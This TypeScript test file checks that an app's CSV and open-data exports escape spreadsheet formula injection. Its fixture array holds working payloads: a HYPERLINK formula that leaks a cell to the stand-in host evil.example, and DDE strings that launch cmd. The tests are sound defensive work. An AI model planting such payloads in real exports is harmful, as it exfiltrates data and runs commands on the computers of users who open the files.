/**
 * CSV formula injection: every CSV export (the programme's CSV, each open-data CSV, the ones inside
 * datapackage.zip) writes a text cell that a spreadsheet would run — beginning with = + - @, a tab or a
 * carriage return, or their full-width forms — with an apostrophe before it, quoted (OWASP). Numbers,
 * negative ones included, stay numbers. The programme's CSV still reads back exactly.
 */
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../../src/api/app.js";
import { configFrom } from "../../src/config.js";
import { allItems, type Programme } from "../../src/domain/model.js";
import { demoProgramme } from "../../src/domain/synthetic/demo.js";
import { exportCsv } from "../../src/export/csv.js";
import { parseCsv, readCsvProgramme } from "../../src/import/csv.js";
import { toCsv } from "../../src/opendata/datapackage.js";
import { resourceDef } from "../../src/opendata/fields.js";
import type { Store } from "../../src/store/index.js";
import { userClient } from "../monitoring-api/support.js";
import { temporaryExportsDir } from "../opendata/exports-dir.js";
import { openTestStore } from "../support/db.js";

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Деталі")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "'=1+1",
];
const RUNS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

function poisoned(): Programme {
  const programme = demoProgramme();
  programme.title = ATTACKS[0] ?? "";
  allItems(programme).forEach((item, index) => {
    item.title = ATTACKS[index % ATTACKS.length] ?? item.title;
  });
  return programme;
}

/** Every cell of a CSV text, as a spreadsheet would see it (quotes removed). */
function cells(text: string, separator: string): string[] {
  return parseCsv(text, separator).flat();
}

function expectNothingRuns(text: string, separator: string): void {
  const runnable = cells(text, separator).filter((cell) => RUNS.test(cell));
  expect(runnable).toEqual([]);
}

describe("CSV formula injection", () => {
  it("escapes the programme's CSV, and reads it back exactly", () => {
    const programme = poisoned();
    const text = exportCsv(programme);
    expectNothingRuns(text, ";");
    for (const attack of ATTACKS) expect(cells(text, ";")).toContain(`'${attack}`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Деталі"")"`);
    const back = readCsvProgramme(text).programme;
    expect(back.title).toBe(programme.title);
    expect(allItems(back).map((item) => item.title)).toEqual(allItems(programme).map((item) => item.title));
  });

  it("escapes text in the open-data CSV and leaves numbers, negative ones too, alone", () => {
    const def = resourceDef("programmes");
    const [textField, numberField] = [
      def.fields.find((field) => field.type === "string"),
      def.fields.find((field) => field.type === "integer" || field.type === "number"),
    ];
    if (!textField || !numberField) throw new Error("fields");
    const text = toCsv(def, [
      { [textField.name]: "-1+1", [numberField.name]: -5 },
      { [textField.name]: "@x", [numberField.name]: 7 },
    ]);
    const [, first, second] = parseCsv(text, ",");
    const at = (name: string) => def.fields.findIndex((field) => field.name === name);
    expect(first?.[at(textField.name)]).toBe("'-1+1");
    expect(first?.[at(numberField.name)]).toBe("-5");
    expect(second?.[at(textField.name)]).toBe("'@x");
  });

  describe("over HTTP", () => {
    let store: Store;
    let dispose: () => Promise<void>;
    let restoreExportsDir: () => Promise<void>;
    let programmeId = 0;

    beforeAll(async () => {
      ({ restore: restoreExportsDir } = await temporaryExportsDir());
      ({ store, dispose } = await openTestStore());
      ({ programmeId } = await store.saveImport(
        { programme: poisoned(), findings: [] },
        { name: "p", sha256: "p" },
      ));
      await store.setStatus(programmeId, "published");
    }, 180_000);
    afterAll(async () => {
      await dispose();
      await restoreExportsDir();
    });

    it("escapes every CSV the API serves: the programme's, each open-data set, the data package's", async () => {
      const app = buildApp({ store, webDist: "/nonexistent", config: configFrom({}) });
      try {
        const admin = await userClient(app, store, "csv-admin", "admin");
        const own = await admin.inject(`/api/programmes/${programmeId}/export.csv`);
        expect(own.statusCode).toBe(200);
        expectNothingRuns(own.body, ";");
        expect(cells(own.body, ";")).toContain(`'${ATTACKS[1]}`);

        for (const resource of ["programmes", "projects"]) {
          const response = await app.inject(`/api/v1/${resource}.csv`);
          expect(response.statusCode).toBe(200);
          expectNothingRuns(response.body, ",");
          expect(cells(response.body, ",")).toContain(`'${ATTACKS[0]}`);
        }
        const zip = await JSZip.loadAsync((await app.inject("/api/v1/datapackage.zip")).rawPayload);
        const names = Object.keys(zip.files).filter((name) => name.endsWith(".csv"));
        expect(names.length).toBeGreaterThan(3);
        for (const name of names) expectNothingRuns((await zip.file(name)?.async("string")) ?? "", ",");
      } finally {
        await app.close();
      }
    });
  });
});
